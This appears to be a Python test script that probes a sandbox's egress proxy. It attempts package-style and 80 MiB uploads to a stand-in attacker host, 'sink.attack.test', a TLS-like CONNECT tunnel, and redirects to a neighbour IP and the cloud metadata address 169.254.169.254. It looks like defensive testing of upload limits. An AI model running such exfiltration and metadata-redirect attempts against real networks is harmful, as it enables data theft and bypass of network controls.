"""Sends to a host that a registry allows: a little, as who publishes a package, and then more than any bound."""

import json
import os
import socket
import time
import urllib.error
import urllib.request

import network

HOST, PORT = "sink.attack.test", 7413
LENGTH = 80 << 20


def request(path, length):
    return (f"PUT http://{HOST}:{PORT}/{path} HTTP/1.1\r\nHost: {HOST}:{PORT}\r\nAuthorization: Basic b3duZWQ=\r\n"
            f"Content-Type: application/octet-stream\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n").encode()


def redirected(target):
    """A client that follows redirects as it is used to, and the proxy that its environment names."""
    try:
        with urllib.request.urlopen(f"http://{HOST}:{PORT}/redirect?{target}", timeout=60) as answer:
            return f"status:{answer.status}"
    except urllib.error.HTTPError as error:
        reason = error.headers.get("x-swe-forge-egress", "")
        return "denied:" + reason.split("reason=", 1)[1] if "reason=" in reason else f"status:{error.code}"
    except urllib.error.URLError as error:
        # What a tunnel is refused with stands in its status line only.
        return tunnel_refusal(str(error.reason)) or str(error.reason)


def tunnel_refusal(text):
    return next((f"denied:{reason}" for reason in ("not_on_allowlist", "ip_literal", "port") if reason in text), None)


def redirects():
    with open(os.path.join(network.HERE, "parameters.json")) as file:
        parameters = json.load(file)
    neighbour, port = parameters["bridge_v4"], parameters["bridge_tcp"]
    return {"redirect-control": f"http://{HOST}:{PORT}/", "redirect-unlisted": "http://redirected.attack.test/",
            "redirect-neighbour": f"http://{neighbour}:{port}/", "redirect-neighbour-80": f"http://{neighbour}/",
            "redirect-metadata": "http://169.254.169.254/latest/meta-data/", "redirect-tls": "https://redirected.attack.test/"}


def published():
    """As `npm publish` and `twine upload` do it. The host is given its name only while this runs."""
    until, found = time.monotonic() + 300, "nothing"
    while time.monotonic() < until:
        with socket.create_connection(network.HTTP_PROXY, 60) as stream:
            stream.settimeout(60)
            stream.sendall(request("package", 1 << 20) + b"p" * (1 << 20))
            found = network.answer(network.head(stream))
        if found == "status:200":
            return found
        print(found, flush=True)
        time.sleep(0.5)
    return found


def sent(stream, most):
    """How much is taken, and how it ends."""
    count, block = 0, b"u" * 65536
    try:
        while count < most:
            count += stream.send(block)
    except OSError as error:
        return count, network.word(error)
    return count, "everything was taken"


def cut(count, how):
    return "cut" if count <= 64 << 20 and how in ("ECONNRESET", "EPIPE", "timeout") else f"{count} bytes: {how}"


def body():
    with socket.create_connection(network.HTTP_PROXY, 60) as stream:
        stream.settimeout(60)
        stream.sendall(request("large", LENGTH))
        return cut(*sent(stream, LENGTH))


def tunnel():
    """A tunnel whose first bytes are those of TLS. By now nothing is left to be sent."""
    with socket.create_connection(network.HTTP_PROXY, 60) as stream:
        stream.settimeout(60)
        stream.sendall(f"CONNECT {HOST}:{PORT} HTTP/1.1\r\n\r\n".encode())
        found = network.answer(network.head(stream))
        if found != "status:200":
            return found
        stream.sendall(network.hello("right", HOST)[0])
        return cut(*sent(stream, LENGTH))


def main():
    os.makedirs("/workspace/output", exist_ok=True)
    with open("/workspace/output/results.jsonl", "w") as out:
        for name, function in (("upload-publish", published), ("upload-body", body), ("upload-tunnel", tunnel)):
            try:
                outcome = function()
            except OSError as error:
                outcome = network.word(error)
            out.write(json.dumps({"attempt": name, "outcome": outcome}) + "\n")
            out.flush()
            if name == "upload-publish":
                for name, target in redirects().items():
                    out.write(json.dumps({"attempt": name, "outcome": redirected(target)}) + "\n")


if __name__ == "__main__":
    main()
